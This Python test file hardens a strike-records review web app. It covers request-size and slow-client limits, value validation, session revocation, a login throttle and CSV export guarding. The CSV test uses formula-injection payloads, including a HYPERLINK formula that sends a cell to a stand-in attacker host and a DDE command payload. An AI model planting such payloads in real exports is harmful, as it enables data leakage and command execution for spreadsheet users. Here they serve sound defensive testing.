"""Issue #14 items 4, 5, 6 and 8 against the real ``strikewatch serve`` (uvicorn on 127.0.0.1) and the real CLI:
request limits (414/431/408/413) that keep the server answering, one validator for every review value (422 in the
API and the form, exit 2 on the CLI), sessions that end on the server, a sign-in throttle that never locks the
real reviewer out, and CSV exports that cannot carry a spreadsheet formula."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from support.webdata import seed

from strikewatch.db import open_db, session_scope
from strikewatch.web.auth import add_user

PASSWORD = "correct horse battery"
NEW_PASSWORD = "another long secret"


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    folder = tmp_path_factory.mktemp("serve")
    url = f"sqlite:///{folder / 'web.db'}"
    engine = open_db(url)
    ids = seed(engine)
    with session_scope(engine) as s:
        add_user(s, "rita", PASSWORD)
        add_user(s, "omar", PASSWORD)
    engine.dispose()
    port = _free_port()
    env = dict(os.environ, STRIKEWATCH_SECRET="hardening-test-secret", STRIKEWATCH_DB=url)
    log = (folder / "serve.log").open("w")
    proc = subprocess.Popen([sys.executable, "-m", "strikewatch", "serve", "--port", str(port), "--log-level",
                             "warning", "--head-timeout", "2"], env=env, stdout=log, stderr=subprocess.STDOUT)
    base = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            if httpx.get(base + "/healthz", timeout=2).status_code == 200:
                break
        except httpx.HTTPError:
            time.sleep(0.2)
    else:
        proc.kill()
        raise RuntimeError("strikewatch serve did not start: " + (folder / "serve.log").read_text()[-2000:])
    try:
        yield {"base": base, "port": port, "db": url, "ids": ids, "proc": proc}
    finally:
        proc.terminate()
        proc.wait(timeout=20)
        log.close()


def client(server: dict[str, Any], source: str = "127.0.0.1") -> httpx.Client:
    """A client connecting from ``source`` (any 127.x address is this machine: the server sees another client)."""
    return httpx.Client(base_url=server["base"], timeout=20,
                        transport=httpx.HTTPTransport(local_address=source))


def sign_in(c: httpx.Client, name: str = "rita", password: str = PASSWORD) -> str:
    r = c.post("/api/session", json={"name": name, "password": password})
    assert r.status_code == 200, r.text
    return str(r.json()["csrf"])


def raw(port: int, data: bytes, *, chunk: int = 65536, read: bool = True) -> tuple[bytes, int]:
    """Send ``data`` on a fresh connection (as far as the server lets it); the response and the bytes sent."""
    sent = 0
    with socket.create_connection(("127.0.0.1", port), timeout=20) as s:
        try:
            while sent < len(data):
                sent += s.send(data[sent:sent + chunk])
        except (BrokenPipeError, ConnectionResetError):
            pass
        if not read:
            return b"", sent
        out = b""
        try:
            while True:
                got = s.recv(65536)
                if not got:
                    break
                out += got
        except (ConnectionResetError, TimeoutError):
            pass
    return out, sent


# --- item 4: request limits ----------------------------------------------------------------------------------------


def test_huge_or_endless_request_heads_are_refused_and_the_server_keeps_answering(server: dict[str, Any]) -> None:
    port = server["port"]
    big = b"GET /api/strikes HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * (64 << 20) + b"\r\n\r\n"
    results: list[tuple[bytes, int]] = []

    def flood() -> None:
        results.append(raw(port, big))

    floods = [threading.Thread(target=flood) for _ in range(2)]
    for t in floods:
        t.start()
    health = []
    for _ in range(5):  # the server answers others while the two floods are refused
        t0 = time.monotonic()
        health.append((httpx.get(server["base"] + "/healthz", timeout=10).status_code, time.monotonic() - t0))
    for t in floods:
        t.join(timeout=60)
    assert all(code == 200 for code, _ in health), health
    assert max(secs for _, secs in health) < 5, health
    for response, sent in results:
        assert response.startswith(b"HTTP/1.1 431 "), response[:200]
        assert sent < 16 << 20, sent  # cut long before the 64 MB were sent
    out = Path(__file__).resolve().parents[2] / "artifacts" / "hardening"
    out.mkdir(parents=True, exist_ok=True)
    (out / "request-limits.json").write_text(json.dumps({
        "flood_mb_offered": 64, "floods": 2, "sent_before_cut_kb": [sent // 1024 for _, sent in results],
        "healthz_seconds": [round(secs, 3) for _, secs in health]}))
    many = b"GET / HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-H%d: v\r\n" % i for i in range(150)) + b"\r\n"
    assert raw(port, many)[0].startswith(b"HTTP/1.1 431 ")
    assert raw(port, b"GET /" + b"a" * 20_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")[0].startswith(b"HTTP/1.1 414 ")
    # a client that drips its head is cut at --head-timeout (2 s here)
    with socket.create_connection(("127.0.0.1", port), timeout=20) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
        t0 = time.monotonic()
        got = b""
        while True:
            try:
                s.sendall(b"X-Slow: 1\r\n")
            except (BrokenPipeError, ConnectionResetError):
                break
            time.sleep(0.5)
            s.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                got += s.recv(4096)
            s.setblocking(True)
            if got or time.monotonic() - t0 > 15:
                break
        assert got.startswith(b"HTTP/1.1 408 ") and time.monotonic() - t0 < 10, got[:100]
    # bodies: declared too large, or streamed past the limit
    with client(server) as c:
        r = c.post("/api/session", content=b"{" + b" " * (2 << 20) + b"}",
                   headers={"content-type": "application/json"})
        assert r.status_code == 413 and "too large" in r.json()["error"]

        def stream() -> Iterator[bytes]:
            for _ in range(40):
                yield b" " * 65536

        r = c.post("/api/session", content=stream(), headers={"content-type": "application/json"})
        assert r.status_code == 413
        assert c.get("/healthz").status_code == 200


# --- item 5: one validator for every review value ------------------------------------------------------------------

BAD_VALUES: list[tuple[str, Any, str]] = [
    ("lat", "nan", "lat"), ("lat", 999, "lat"), ("lat", "1e309", "lat"), ("lon", "-inf", "lon"),
    ("killed_min", "1e30", "killed_min"), ("killed_min", 10**30, "killed_min"), ("killed_min", -1, "killed_min"),
    ("killed_min", "5_000", "killed_min"), ("date", "0001-01-01", "date"), ("date", "2014-02-30", "date"),
    ("country", "Pakistan", "country"), ("place", "Wana\u0000", "place"), ("grade", "excellent", "grade"),
    ("type", "meteor", "type"), ("killed_min", 500, "killed_max"),  # above the record's killed_max
    ("date_earliest", "2014-12-31", "date_earliest"),  # after the record's date
]


def test_review_values_are_refused_alike_in_the_api_the_form_and_the_cli(cli, server: dict[str, Any]) -> None:  # type: ignore[no-untyped-def]
    sid = server["ids"]["wana"]
    with client(server) as c:
        csrf = sign_in(c, "omar")
        before = len(c.get("/api/audit").json()["items"])
        for fld, value, named in BAD_VALUES:
            r = c.post("/api/review/set", json={"id": sid, "field": fld, "value": value, "reason": "test"},
                       headers={"X-CSRF-Token": csrf})
            assert r.status_code == 422, (fld, value, r.status_code, r.text)
            assert named in r.json()["error"], (fld, value, r.json())
        page = c.post(f"/review/strikes/{sid}/set", data={"csrf_token": csrf, "field": "lat", "value": "nan",
                                                          "reason": "test"})
        assert page.status_code == 422 and "lat=nan" in page.text and "from -90 to 90" in page.text
        assert len(c.get("/api/audit").json()["items"]) == before  # nothing was recorded
        ok = c.post("/api/review/set", json={"id": sid, "field": "lat", "value": "32.3", "reason": "map"},
                    headers={"X-CSRF-Token": csrf})
        assert ok.status_code == 200 and c.get(f"/api/strikes/{sid}").json()["lat"] == 32.3
    for value in ("lat=nan", "killed_min=1e30", "date=0001-01-01", "killed_min=500"):
        r = cli("review", "set", str(sid), value, "--by", "omar", "--reason", "test", db=server["db"])
        assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1, (value, r.stderr)
        assert value.split("=")[0] in r.stderr and "Traceback" not in r.stderr
    both = cli("review", "set", str(sid), "killed_min=20", "killed_max=30", "--by", "omar", "--reason", "two ends",
               db=server["db"])
    assert both.returncode == 0, both.stderr  # both ends past the old max, together
    check = cli("check", "--quick", db=server["db"])
    assert check.returncode == 0, check.stdout


# --- item 6: sessions end on the server ----------------------------------------------------------------------------


def test_sign_out_and_a_new_password_end_sessions_and_old_cookies_replay_to_nothing(cli, server: dict[str, Any]) -> None:  # type: ignore[no-untyped-def]  # noqa: E501
    sid = server["ids"]["bayda"]
    body = {"id": sid, "field": "target", "value": "a house", "reason": "replay test"}
    with client(server) as c:
        csrf = sign_in(c)
        cookie = c.cookies["sw_session"]
        assert c.get("/api/session").status_code == 200
        assert c.delete("/api/session", headers={"X-CSRF-Token": csrf}).status_code == 200
    with client(server) as thief:  # a copy of the cookie, replayed after sign-out
        thief.cookies.set("sw_session", cookie)
        assert thief.get("/api/session").status_code == 401
        r = thief.post("/api/review/set", json=body, headers={"X-CSRF-Token": csrf})
        assert r.status_code == 401
    with client(server) as c:  # the form's sign-out too
        csrf = sign_in(c)
        cookie = c.cookies["sw_session"]
        assert c.post("/logout", data={"csrf_token": csrf}).status_code in (200, 303)
    with client(server) as thief:
        thief.cookies.set("sw_session", cookie)
        assert thief.get("/api/session").status_code == 401
    a, b = client(server), client(server)
    with a, b:
        sign_in(a), sign_in(b)
        assert a.get("/api/session").status_code == 200 and b.get("/api/session").status_code == 200
        changed = cli("user", "passwd", "rita", "--password-stdin", db=server["db"], input=NEW_PASSWORD + "\n")
        assert changed.returncode == 0, changed.stderr
        assert a.get("/api/session").status_code == 401 and b.get("/api/session").status_code == 401
    with client(server) as c:
        assert c.post("/api/session", json={"name": "rita", "password": PASSWORD}).status_code == 401
        sign_in(c, "rita", NEW_PASSWORD)


# --- item 8: sign-in throttle --------------------------------------------------------------------------------------


def test_guessing_slows_the_guesser_and_never_locks_the_reviewer_out(server: dict[str, Any]) -> None:
    wrong = {"name": "omar", "password": "not the password"}
    with client(server, "127.0.0.2") as attacker:
        codes = [attacker.post("/api/session", json=wrong).status_code for _ in range(5)]
        assert codes == [401] * 5
        r = attacker.post("/api/session", json=wrong)
        assert r.status_code == 429 and r.headers["retry-after"] == "1"
        time.sleep(1.1)
        assert attacker.post("/api/session", json=wrong).status_code == 401
        r = attacker.post("/api/session", json=wrong)
        assert r.status_code == 429 and int(r.headers["retry-after"]) == 2  # backoff: 1, 2, 4 ... s
        r = attacker.post("/api/session", json={"name": "omar", "password": PASSWORD})
        assert r.status_code == 429  # the guesser cannot tell the right password from a wrong one
    with client(server, "127.0.0.3") as second:  # the account is being guessed at: a new guesser waits at once
        assert second.post("/api/session", json=wrong).status_code == 401
        assert second.post("/api/session", json=wrong).status_code == 429
    with client(server, "127.0.0.1") as reviewer:  # the real reviewer, from elsewhere: in at once
        sign_in(reviewer, "omar")


# --- item 8: CSV formula cells -------------------------------------------------------------------------------------


def test_csv_exports_never_carry_a_formula(cli, server: dict[str, Any]) -> None:  # type: ignore[no-untyped-def]
    sid = server["ids"]["miranshah"]
    formulas = {"place": '=HYPERLINK("http://evil.example/?x="&A1,"Miranshah")', "admin2": "+cmd|' /C calc'!A0",
                "target": "@SUM(1+1)", "perpetrator": "-2+3"}
    with client(server) as c:
        csrf = sign_in(c, "omar")
        for fld, value in formulas.items():
            r = c.post("/api/review/set", json={"id": sid, "field": fld, "value": value, "reason": "csv test"},
                       headers={"X-CSRF-Token": csrf})
            assert r.status_code == 200, r.text
        exported = c.get("/api/strikes.csv", params={"limit": 1000}).text
    from_cli = cli("strikes", "--format", "csv", db=server["db"]).stdout
    for text in (exported, from_cli):
        assert text.startswith("\ufeff")  # the byte-order mark Excel needs to read UTF-8 (#17)
        rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))}
        row = rows[str(sid)]
        for fld, value in formulas.items():
            assert row[fld] == "'" + value, (fld, row[fld])
        for r in rows.values():
            for v in r.values():
                assert not re.match(r"\s*[=+\-@\t\r]", v) or re.fullmatch(r"-?\d+(\.\d+)?", v), v
    rec = json.loads(cli("strike", str(sid), "--format", "json", db=server["db"]).stdout)
    assert rec["place"] == formulas["place"]  # stored and shown as given; only the CSV cell is guarded


def test_wording(cli, tmp_path: Path, sqlite_url: str) -> None:  # type: ignore[no-untyped-def]
    """Sizes read in the unit --max-size takes; no doubled words in the JSONL error."""
    big = tmp_path / "big.txt"
    big.write_bytes(b"drone " * (21 * 1024 * 1024 // 6 + 1))
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"id": "a", "text": "unterminated\n')
    r = cli("ingest", str(big), str(bad), db=sqlite_url)
    assert "limit 20.0 MB" in r.stderr and "21.0 MB" not in r.stderr.split("limit")[1], r.stderr
    assert "at at" not in r.stderr and "malformed JSON: Unterminated string starting at (column 21)" in r.stderr
